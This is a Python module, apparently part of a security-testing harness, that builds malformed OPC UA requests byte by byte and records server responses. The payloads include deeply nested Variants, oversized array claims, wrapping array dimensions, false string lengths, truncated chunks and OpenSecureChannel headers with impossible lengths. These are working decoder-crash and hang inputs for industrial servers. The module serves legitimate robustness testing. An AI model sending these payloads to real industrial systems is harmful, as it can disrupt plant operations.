"""Hostile OPC UA service requests written byte by byte, and what the server answered to them.

The known bug classes of profiles/bug_classes.toml live in the binary decoder: a Variant nested
ten thousand deep, an array that claims 2^31-1 elements, ArrayDimensions whose product wraps
at 2^32, a String that is not UTF-8. A client library refuses to encode these, so this module
writes a GetEndpointsRequest (OPC UA Part 4 5.4.4; allowed before any session and on a
SecurityPolicy None channel) itself, with the hostile piece put where every server decodes it:
the RequestHeader's AdditionalHeader (an AdditionalParametersType ExtensionObject whose value is
a Variant), the EndpointUrl or the LocaleIds. `ask` sends one over an open None channel
(protocols/opcua/uatcp.py) and says what came back; nothing here judges.

Also the OpenSecureChannel messages whose asymmetric security header lengths are impossible
(the OPN hang class).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from protocols.errors import Observation, Seen
from protocols.opcua import frames, uatcp

GET_ENDPOINTS_REQUEST = 428  # GetEndpointsRequest_Encoding_DefaultBinary (Part 6 Annex A)
GET_ENDPOINTS_RESPONSE = 431
ADDITIONAL_PARAMETERS = 17537  # AdditionalParametersType_Encoding_DefaultBinary
SERVICE_FAULT = frames.SERVICE_FAULT_TYPE
MAX_RESPONSE_CHUNKS = 64  # a longer answer to one GetEndpoints is taken as garbage
RETURN_ALL_DIAGNOSTICS = 0x3FF  # Part 4 7.32: every DiagnosticInfo field, service and operation level

# Variant type ids (Part 6 5.1.2) and the encoding mask bits (5.2.2.16).
_INT32, _EXTENSION_OBJECT, _VARIANT, _DIAGNOSTIC_INFO = 6, 22, 24, 25
_ARRAY, _DIMENSIONS = 0x80, 0x40
_INNER_DIAGNOSTIC_INFO = 0x40
NULL_EXTENSION_OBJECT = b"\x00\x00\x00"  # two-byte null NodeId, no body
NULL_NODE_ID = b"\x00\x00"


def int32(value: int) -> bytes:
    return struct.pack("<i", value)


def numeric_node_id(identifier: int) -> bytes:
    """A namespace-0 numeric NodeId in its four-byte form (identifier < 65536)."""
    return struct.pack("<BBH", 0x01, 0, identifier)


def request_header(
    *,
    authentication_token: bytes = NULL_NODE_ID,
    handle: int = 1,
    return_diagnostics: int = 0,
    additional_header: bytes = NULL_EXTENSION_OBJECT,
) -> bytes:
    """RequestHeader (Part 4 7.33): token, timestamp 0, handle, diagnostics mask, no audit id, no hint."""
    return (
        authentication_token
        + struct.pack("<qII", 0, handle, return_diagnostics)
        + int32(-1)  # AuditEntryId: null
        + struct.pack("<I", 0)  # TimeoutHint
        + additional_header
    )


def extension_object(type_id: int, body: bytes) -> bytes:
    return numeric_node_id(type_id) + b"\x01" + int32(len(body)) + body


def additional_parameters(value: bytes) -> bytes:
    """An AdditionalParametersType ExtensionObject with one KeyValuePair whose value is `value`
    (an encoded Variant): where a request header carries a Variant."""
    key = struct.pack("<H", 0) + frames.ua_string("kentei")  # QualifiedName
    return extension_object(ADDITIONAL_PARAMETERS, int32(1) + key + value)


def int32_variant(value: int = 0) -> bytes:
    return bytes([_INT32]) + int32(value)


def nested_variants(depth: int) -> bytes:
    """A Variant holding a Variant ... `depth` times, then an Int32: one byte per level."""
    return bytes([_VARIANT]) * depth + int32_variant()


def nested_diagnostic_infos(depth: int) -> bytes:
    """A Variant holding a DiagnosticInfo whose InnerDiagnosticInfo nests `depth` deep."""
    return bytes([_DIAGNOSTIC_INFO]) + bytes([_INNER_DIAGNOSTIC_INFO]) * depth + b"\x00"


def nested_extension_objects(depth: int) -> bytes:
    """A Variant holding an AdditionalParametersType whose value holds another, `depth` deep."""
    value = int32_variant()
    for _ in range(depth):
        value = bytes([_EXTENSION_OBJECT]) + additional_parameters(value)
    return value


def huge_array_variant(claimed: int = 0x7FFFFFFF) -> bytes:
    """An Int32 array Variant that claims `claimed` elements and carries two."""
    return bytes([_INT32 | _ARRAY]) + int32(claimed) + int32(0) * 2


def wrapping_dimensions_variant() -> bytes:
    """An empty Int32 array with ArrayDimensions 65536 x 65536: a product of 2^32, 0 in 32 bits."""
    return bytes([_INT32 | _ARRAY | _DIMENSIONS]) + int32(0) + int32(2) + int32(65536) * 2


def get_endpoints_request(
    endpoint_url: bytes,
    *,
    header: bytes | None = None,
    locale_ids: bytes = b"\xff\xff\xff\xff",
    profile_uris: bytes = b"\xff\xff\xff\xff",
) -> bytes:
    """The body of a GetEndpoints MSG: type id, header, then EndpointUrl (raw bytes, as given), the
    LocaleIds and ProfileUris arrays (encoded by the caller; null by default)."""
    return (
        numeric_node_id(GET_ENDPOINTS_REQUEST)
        + (request_header() if header is None else header)
        + int32(len(endpoint_url))
        + endpoint_url
        + locale_ids
        + profile_uris
    )


def claimed_string(claimed: int, carried: bytes) -> bytes:
    """A String whose length field says `claimed` bytes and which carries `carried`."""
    return int32(claimed) + carried


def string_array(items: list[bytes], claimed: int | None = None) -> bytes:
    return int32(len(items) if claimed is None else claimed) + b"".join(int32(len(i)) + i for i in items)


def bare_chunk_header(message_type: str, size: int, body: int = 24) -> bytes:
    """A final chunk header of this type ("HEL", "OPN", "MSG") claiming `size` bytes, followed by
    `body` zero bytes: the rest of what it claims is never sent."""
    return frames.ChunkHeader(message_type.encode("ascii"), b"F", size).encode() + bytes(body)


def hello_with_url(endpoint_url: bytes) -> bytes:
    """A HEL (default buffers, no limits) whose EndpointUrl is the raw bytes given."""
    fields = struct.pack(
        "<5I", frames.PROTOCOL_VERSION, frames.DEFAULT_BUFFER_SIZE, frames.DEFAULT_BUFFER_SIZE, 0, 0
    )
    return frames.chunk(b"HEL", fields + frames.ua_string(endpoint_url))


# -- OpenSecureChannel with impossible asymmetric security header lengths -----------------------


def opn_with_header(policy_uri: bytes, certificate: bytes, thumbprint: bytes) -> bytes:
    """An OPN chunk whose asymmetric security header is the three raw fields given (each a length
    and bytes, or a lying length), then the sequence header and a None OpenSecureChannelRequest."""
    body = (
        struct.pack("<I", 0)
        + policy_uri
        + certificate
        + thumbprint
        + frames.sequence_header(1, 1)
        + frames.open_secure_channel_body()
    )
    return frames.chunk(b"OPN", body)


NONE_URI = frames.ua_string(frames.NONE_POLICY_URI)
NULL_BYTES = int32(-1)


# -- what came back ------------------------------------------------------------------------------


@dataclass(frozen=True)
class ServiceAnswer:
    """What the server did with one request: ANSWERED (a response of the type asked for),
    REFUSED (a ServiceFault, a Bad ServiceResult, or an ERR), CLOSED, NO_ANSWER, MALFORMED."""

    seen: Seen
    status: str = ""
    response_type: int = 0
    detail: str = ""
    string_table: tuple[str, ...] = ()  # the ResponseHeader's StringTable (diagnostic texts)
    diagnostic_texts: tuple[str, ...] = ()  # AdditionalInfo of the service diagnostics, inner included

    def observation(self) -> Observation:
        return Observation(self.seen, self.status, "service", self.detail)

    def describe(self) -> str:
        return self.observation().describe()


def _from_exchange(exchange: uatcp.Exchange) -> ServiceAnswer:
    return ServiceAnswer(exchange.seen, exchange.status, detail=exchange.detail or exchange.seen.value)


def _diagnostic_texts(info: object) -> tuple[str, ...]:
    texts: list[str] = []
    for _ in range(64):  # bounded: the inner chain of a DiagnosticInfo
        if info is None:
            break
        additional = getattr(info, "AdditionalInfo", None)
        if additional:
            texts.append(str(additional))
        info = getattr(info, "InnerDiagnosticInfo", None)
    return tuple(texts)


def decode_response(body: bytes) -> ServiceAnswer:
    """A MSG response body (after its 8-byte chunk header, chunks joined): ServiceFault or the response."""
    from asyncua import ua
    from asyncua.common.utils import Buffer
    from asyncua.ua.ua_binary import nodeid_from_binary, struct_from_binary

    try:
        buffer = Buffer(body[16:])  # SecureChannelId, TokenId, SequenceNumber, RequestId
        type_id = nodeid_from_binary(buffer)
        header = struct_from_binary(ua.ResponseHeader, buffer)
    except Exception as exc:  # asyncua's decoder raises what it meets
        return ServiceAnswer(Seen.MALFORMED, detail=f"response not decodable: {type(exc).__name__}: {exc}")
    result = int(header.ServiceResult.value)
    identifier = int(type_id.Identifier) if isinstance(type_id.Identifier, int) else 0
    table = tuple(str(s) for s in (header.StringTable or ()))
    texts = _diagnostic_texts(header.ServiceDiagnostics)
    status = frames.status_name(result)
    if identifier == SERVICE_FAULT or result & 0x80000000:
        return ServiceAnswer(Seen.REFUSED, status, identifier, "ServiceFault", table, texts)
    return ServiceAnswer(Seen.ANSWERED, status, identifier, f"response type {identifier}", table, texts)


async def ask(
    connection: uatcp.UaTcpConnection,
    channel: frames.ChannelOpened,
    body: bytes,
    *,
    sequence_number: int = 2,
    request_id: int = 2,
    timeout: float | None = None,
) -> ServiceAnswer:
    """Send `body` as one MSG on the open channel and read the response (its chunks joined)."""
    frame = frames.symmetric_chunk(
        b"MSG",
        body,
        channel_id=channel.channel_id,
        token_id=channel.token_id,
        sequence_number=sequence_number,
        request_id=request_id,
    )
    exchange = await connection.send(frame, timeout=timeout)
    joined = b""
    for _ in range(MAX_RESPONSE_CHUNKS):
        if exchange.seen is not Seen.ANSWERED or exchange.message is None:
            return _from_exchange(exchange)
        message = exchange.message
        if message.header.message_type != b"MSG":
            return ServiceAnswer(Seen.MALFORMED, detail=f"answered with {message.kind}, not MSG")
        joined += message.body if not joined else message.body[16:]
        if message.header.chunk_type != b"C":
            if message.header.chunk_type == b"A":
                return ServiceAnswer(Seen.REFUSED, "BadRequestCancelledByClient", detail="abort chunk")
            return decode_response(joined)
        exchange = await connection.next_message(timeout)
    return ServiceAnswer(Seen.MALFORMED, detail=f"more than {MAX_RESPONSE_CHUNKS} response chunks")
